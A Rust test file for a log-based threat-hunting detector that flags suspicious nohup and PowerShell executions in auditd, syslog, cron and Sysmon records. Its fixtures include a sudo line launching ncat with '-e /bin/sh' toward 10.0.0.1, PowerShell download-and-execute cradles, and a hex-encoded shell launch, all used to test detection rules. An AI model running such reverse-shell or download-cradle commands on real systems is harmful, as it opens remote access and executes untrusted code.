use super::*;

fn query(mode: &str) -> SeedQuery {
    let mut rules = Rules::embedded();
    rules
        .add_text("test.toml", &format!("[seed]\nmatches = \"{mode}\"\n"))
        .unwrap();
    SeedQuery::from_rules(&rules).unwrap()
}

fn row(q: &SeedQuery, line: &str) -> Option<SeedRow> {
    q.nohup_row(line, &line_meta(line))
}

// Verbatim records from examples/linux/audit-raw.log.
const EXECVE_NOHUP_NC: &str = r#"type=EXECVE msg=audit(1795838965.399:1241): argc=6 a0="nohup" a1="nc" a2="-lvp" a3="14444" a4="-s" a5="127.0.0.1""#;
const SYSCALL_NOHUP: &str = r#"type=SYSCALL msg=audit(1795838965.399:1241): arch=c000003e syscall=59 success=yes exit=0 a0=55c7a702bf30 a1=55c7a702bd70 a2=55c7a702b5f0 a3=4b9ab65bad458ebc items=2 ppid=14115 pid=14116 auid=34048 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=33 comm="nohup" exe="/usr/bin/nohup" key="sighunt_e2e""#;
const EXECVE_ENV_NOHUP: &str = r#"type=EXECVE msg=audit(1795838968.639:1264): argc=4 a0="env" a1="X=1" a2="nohup" a3="/tmp/sighunt-e2e.40OurG/x7.sh""#;
const EXECVE_SH_C_HEX: &str = "type=EXECVE msg=audit(1795838968.423:1253): argc=3 a0=\"sh\" a1=\"-c\" a2=6E6F687570202F746D702F73696768756E742D6532652E34304F7572472F78342E7368203E2F6465762F6E756C6C20323E26312026";

#[test]
fn auditd_execve_of_nohup_is_a_row_with_an_empty_target() {
    for mode in ["wildcard", "regex"] {
        let q = query(mode);
        let r = row(&q, EXECVE_NOHUP_NC).expect("a0=\"nohup\" is exec_cmd nohup");
        assert_eq!(r.exec_cmd, "nohup");
        // `nohup\s+` never matches `a0="nohup" a1=…`: a quote follows, not a space.
        assert_eq!((r.nohup_target.as_str(), r.nohup_args.as_str()), ("", ""));
        assert_eq!((r.suspicion_score, r.indicators.len()), (0, 0));
        let meta = line_meta(EXECVE_NOHUP_NC);
        assert_eq!(
            meta.time.unwrap().to_rfc3339(),
            "2026-11-28T04:09:25.399+00:00"
        );
    }
}

#[test]
fn auditd_records_the_seed_misses() {
    let q = query("regex");
    // The SYSCALL record has comm="nohup", but a0= (a pointer) comes first.
    assert_eq!(row(&q, SYSCALL_NOHUP), None);
    // nohup behind env, and nohup inside a hex-encoded `sh -c` string.
    assert_eq!(row(&q, EXECVE_ENV_NOHUP), None);
    assert_eq!(row(&q, EXECVE_SH_C_HEX), None);
}

#[test]
fn keyword_scope_is_whole_terms_case_insensitive() {
    let q = query("regex");
    // `nohupx` is not the term `nohup`; `NOHUP` is.
    assert_eq!(row(&q, "Jan  5 10:00:00 web1 app: cmd=nohupx /tmp/a"), None);
    let r = row(
        &q,
        "Jan  5 10:00:00 web1 app: started NOHUP nohup /tmp/a -i &",
    )
    .unwrap();
    assert_eq!(r.nohup_target, "/tmp/a");
    assert_eq!(r.nohup_args, " -i &");
}

#[test]
fn wildcard_and_regex_readings_of_the_indicators() {
    // A sudo log line: the one kind of Linux record where `nohup ` is followed by
    // a space in the raw text.
    let line = "Jan  5 10:00:00 web1 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/nohup /tmp/.x/ncat -i -e /bin/sh 10.0.0.1 &";
    let regex = row(&query("regex"), line).unwrap();
    assert_eq!(regex.nohup_target, "/tmp/.x/ncat");
    assert_eq!(
        regex.indicators,
        [
            "temp_dir_payload",
            "suspicious_net_tool",
            "interactive_shell",
            "background_exec"
        ]
    );
    assert_eq!(regex.suspicion_score, 4);
    // As Sumo reads the quoted patterns, "/tmp/.*" asks for the literal prefix
    // "/tmp/." — which this hidden directory happens to have — and nothing else
    // can match.
    let wild = row(&query("wildcard"), line).unwrap();
    assert_eq!(wild.indicators, ["temp_dir_payload"]);
    let plain = "Jan  5 10:00:00 web1 sudo:   alice : COMMAND=/usr/bin/nohup /tmp/x.sh &";
    assert_eq!(row(&query("wildcard"), plain).unwrap().suspicion_score, 0);
    assert_eq!(
        row(&query("regex"), plain).unwrap().indicators,
        ["temp_dir_payload", "background_exec"]
    );
}

#[test]
fn cron_is_excluded_by_program_and_by_raw_regex() {
    let q = query("regex");
    assert_eq!(
        row(
            &q,
            "Jan  5 10:00:01 web1 CRON[2211]: (root) CMD (nohup /tmp/job.sh &)"
        ),
        None
    );
    assert_eq!(
        row(
            &q,
            "Jan  5 10:00:01 web1 crond[2211]: (root) CMD (nohup /tmp/job.sh &)"
        ),
        None
    );
    let other = row(
        &q,
        "Jan  5 10:00:01 web1 bash[2211]: (root) CMD (nohup /tmp/job.sh &)",
    )
    .unwrap();
    assert_eq!(other.nohup_target, "/tmp/job.sh");
    // `&\s*$` wants the line to end with `&`; cron's `(… &)` ends with `)`.
    assert_eq!(other.indicators, ["temp_dir_payload"]);
}

#[test]
fn powershell_part_needs_key_value_fields_and_a_positive_score() {
    let kv = r#"EventID=1 Computer=WS01 Image="C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" CommandLine="powershell.exe -ErrorAction SilentlyContinue IEX (New-Object Net.WebClient).DownloadString('http://x/a')""#;
    let regex = query("regex").powershell_row(kv).unwrap();
    assert_eq!(regex.indicators, ["download_cradle", "exec_cradle"]);
    assert_eq!(
        regex.exec_cmd,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    );
    // As written (wildcards), `process_image matches "(?i).*(…)"` never holds.
    assert_eq!(query("wildcard").powershell_row(kv), None);
    // No indicator: score 0 is not > 0.
    let benign = r#"Image="C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" CommandLine="powershell.exe Get-Service -ErrorAction SilentlyContinue""#;
    assert_eq!(query("regex").powershell_row(benign), None);
    // Sysmon XML has no `CommandLine=`/`Image=`: nothing is parsed, nothing returned.
    let xml = r#"<Event><System><Computer>WS01</Computer></System><EventData><Data Name="Image">C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data><Data Name="CommandLine">powershell.exe -ea SilentlyContinue iex (iwr http://x)</Data></EventData></Event>"#;
    assert_eq!(query("regex").powershell_row(xml), None);
}

#[test]
fn wildcard_patterns() {
    let re = matches_regex(MatchMode::Wildcard, "/tmp/.*").unwrap();
    assert!(re.is_match("/tmp/.hidden"));
    assert!(!re.is_match("/tmp/x.sh"));
    let star = matches_regex(MatchMode::Wildcard, "*iPhone*").unwrap();
    assert!(star.is_match("Mozilla iPhone OS"));
    let regex = matches_regex(MatchMode::Regex, "/tmp/.*").unwrap();
    assert!(regex.is_match("/tmp/x.sh") && !regex.is_match("x/tmp/y"));
}

#[test]
fn syslog_headers() {
    let m = line_meta("<13>1 2026-01-05T10:00:00.5Z host1 sudo 123 - - COMMAND=nohup x");
    assert_eq!(
        (m.host.as_str(), m.process.as_deref()),
        ("host1", Some("sudo"))
    );
    assert_eq!(
        m.time.unwrap().to_rfc3339(),
        "2026-01-05T10:00:00.500+00:00"
    );
    let m = line_meta("2026-01-05T10:00:00+01:00 host2 CRON[1]: (root) CMD (x)");
    assert_eq!(
        (m.host.as_str(), m.process.as_deref()),
        ("host2", Some("CRON"))
    );
    assert_eq!(m.time.unwrap().to_rfc3339(), "2026-01-05T09:00:00+00:00");
    let now = Utc.with_ymd_and_hms(2026, 1, 2, 0, 0, 0).unwrap();
    assert_eq!(rfc3164_time("Dec 31 23:00:00", now).unwrap().year(), 2025);
    assert_eq!(rfc3164_time("Jan  1 23:00:00", now).unwrap().year(), 2026);
    let m = line_meta("node=vm type=EXECVE msg=audit(1795838974.235:1316): argc=2 a0=\"nohup\"");
    assert_eq!(m.host, "vm");
}

#[test]
fn xml_events_are_split_into_records() {
    let text = "<Events>\n<Event xmlns='x'><System><Computer>A</Computer>\n<TimeCreated SystemTime='2026-01-05T10:00:00.000Z'/></System></Event><Event><System><Computer>B</Computer></System></Event>\n</Events>\n";
    let mut seen = Vec::new();
    let name: Arc<str> = Arc::from("t.xml");
    read_xml_events(
        &name,
        Box::new(text.as_bytes()),
        &mut |_| panic!(),
        &mut |xml, line| seen.push((xml_meta(xml).host, line)),
    );
    assert_eq!(seen, [("A".to_string(), 2), ("B".to_string(), 3)]);
}
